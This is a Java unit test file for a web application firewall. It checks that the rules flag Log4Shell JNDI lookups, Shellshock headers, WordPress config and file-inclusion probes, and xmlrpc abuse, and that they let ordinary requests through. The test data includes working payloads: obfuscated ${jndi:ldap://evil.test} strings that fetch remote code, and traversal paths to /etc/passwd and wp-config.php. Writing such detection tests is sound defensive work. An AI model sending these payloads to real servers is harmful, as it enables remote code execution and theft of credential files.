package dev.edgecase.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.edgecase.http.Headers;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FreeRulesTest {
    @ParameterizedTest(name = "{1} in {0}: {2}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            target | /?q=${jndi:ldap://evil.test/a}                                               | ec-log4j
            target | /${jndi:rmi://evil.test/a}                                                   | ec-log4j
            target | /?q=$%7Bjndi:dns://evil.test%7D                                              | ec-log4j
            target | /?q=%2524%257Bjndi:ldap://evil.test%257D                                     | ec-log4j
            target | /?q=%252524%25257Bjndi:ldap://evil.test%25257D                               | ec-log4j
            target | /?q=%25252524%2525257Bjndi:ldap://evil.test%2525257D                         | -
            target | /?q=${${lower:J}ndi:${lower:l}${lower:d}a${upper:P}://evil.test}             | ec-log4j
            target | /?q=${${::-j}${::-n}${::-d}${::-i}:ldap://evil.test}                         | ec-log4j
            target | /?q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.test} | ec-log4j
            target | /?q=${jndi:file:///etc/passwd}                                               | -
            target | /?q=${lower:x}                                                               | -
            target | /?q=${jndi:                                                                  | -
            target | /?q=${${${${                                                                 | -
            header | ${jndi:iiop://evil.test/a}                                                   | ec-log4j
            header | %24%7Bjndi:ldap://evil.test/a%7D                                             | ec-log4j
            header | $5                                                                           | -
            header | "() { :;}; echo"                                                             | ec-shellshock
            header | "  (  )  {"                                                                  | ec-shellshock
            header | %20()%20{                                                                    | ec-shellshock
            header | ()                                                                           | -
            header | "x () {"                                                                     | -
            header | %09(%09)%09{                                                                 | ec-shellshock
            target | /?q=()%7B:;%7D                                                               | ec-shellshock
            target | /?q=+()+{                                                                    | ec-shellshock
            target | /() {                                                                        | -
            target | /wp-config.php                                                               | -
            target | /wp-config.php.bak                                                           | ec-wp-config
            target | /blog/WP-config.php~                                                         | ec-wp-config
            target | /%77p-config.php.swp                                                         | ec-wp-config
            target | /wp-config.php.old/x                                                         | -
            target | /?f=../../wp-config.php                                                      | ec-wp-config
            target | /?f=%2e%2e%2fwp-config.php                                                   | ec-wp-config
            target | /?f=wp-config.php                                                            | -
            target | /?f=wp-config.php&g=../                                                      | -
            target | /wp-content/plugins/x/y.php?f=../../../etc/passwd                            | ec-wp-lfi
            target | /wp-content/plugins/x/y.php?f=php://filter                                   | ec-wp-lfi
            target | /wp-content/plugins/x/y.php?f=a                                              | -
            target | /wp-admin/admin-ajax.php?img=..%2Fwp-load.php                                | ec-wp-lfi
            target | /wp-content/themes/x/y.php?f=../a                                            | -
            target | /wp-json/wp/v2/posts/1?id=1abc                                               | ec-wp-rest
            target | /wp-json/wp/v2/posts/1?id=12                                                 | -
            target | /wp-json/wp/v2/posts/a?id=1abc                                               | -
            target | /xmlrpc.php?for=jetpack                                                      | WP0007,WP0002
            target | /blog/XMLRPC.php?for=jetpack                                                 | WP0007,WP0002
            target | /xmlrpc.php?for=other                                                        | WP0002
            target | /xmlrpc.php                                                                  | WP0002
            target | /old-xmlrpc.php?for=jetpack                                                  | -
            target | /xmlrpc.php/x?for=jetpack                                                    | -
            target | /cart?id=7&back=%2Fhome                                                      | -
            """)
    void attacks_are_found_and_nothing_else(String place, String text, String refs) {
        var inTarget = place.equals("target");
        var target = inTarget ? text : "/";
        var headers = inTarget ? Headers.EMPTY : Headers.of("X-Api-Version", text);

        var found = String.join(",", Detections.threats(subject(target, headers)));

        assertThat(found.isEmpty() ? "-" : found).isEqualTo(refs);
        if (!found.isEmpty()) {
            assertThat(Detections.mayBeThreats(target, headers))
                    .as("what is found is looked for")
                    .isTrue();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"ldap", "ldaps", "rmi", "dns", "iiop", "http", "nis", "corba"})
    void a_look_up_may_ask_any_of_these_servers(String scheme) {
        assertThat(Detections.threats(subject("/?q=${jndi:" + scheme + "://evil.test/a}", Headers.EMPTY)))
                .containsExactly("ec-log4j");
    }

    @ParameterizedTest
    @CsvSource({"9, true", "10, true", "11, false"})
    void a_look_up_is_seen_through_so_many_others(int depth, boolean found) {
        var letter = "${lower:".repeat(depth) + "j" + "}".repeat(depth);

        assertThat(Detections.threats(subject("/?q=${" + letter + "ndi:ldap://evil.test/a}", Headers.EMPTY)))
                .hasSize(found ? 1 : 0);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            /                                     | *
            /cart?id=7&q=a%20b%2Cc&lang=de        | *
            /caf%C3%A9/M%C3%BCller.html           | *
            /assets/app-4f2a.min.js?v=1.2.3       | *
            /                                     | "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
            /                                     | text/html,application/xhtml+xml;q=0.9,*/*;q=0.8
            /                                     | "session=abc%22def; theme=dark"
            """)
    void an_ordinary_request_is_not_even_decoded(String target, String header) {
        assertThat(Detections.mayBeThreats(target, Headers.of("X-Any", header))).isFalse();
    }

    @Test
    void an_endless_nesting_takes_its_time_in_proportion() {
        var nested = "${".repeat(20_000) + "}".repeat(20_000);

        assertThat(Detections.threats(subject("/?q=" + nested, Headers.EMPTY))).isEmpty();
    }

    private static Subject subject(String target, Headers headers) {
        return new Subject(new Subject.Head(target, "shop.test", headers, () -> false), List.of());
    }
}
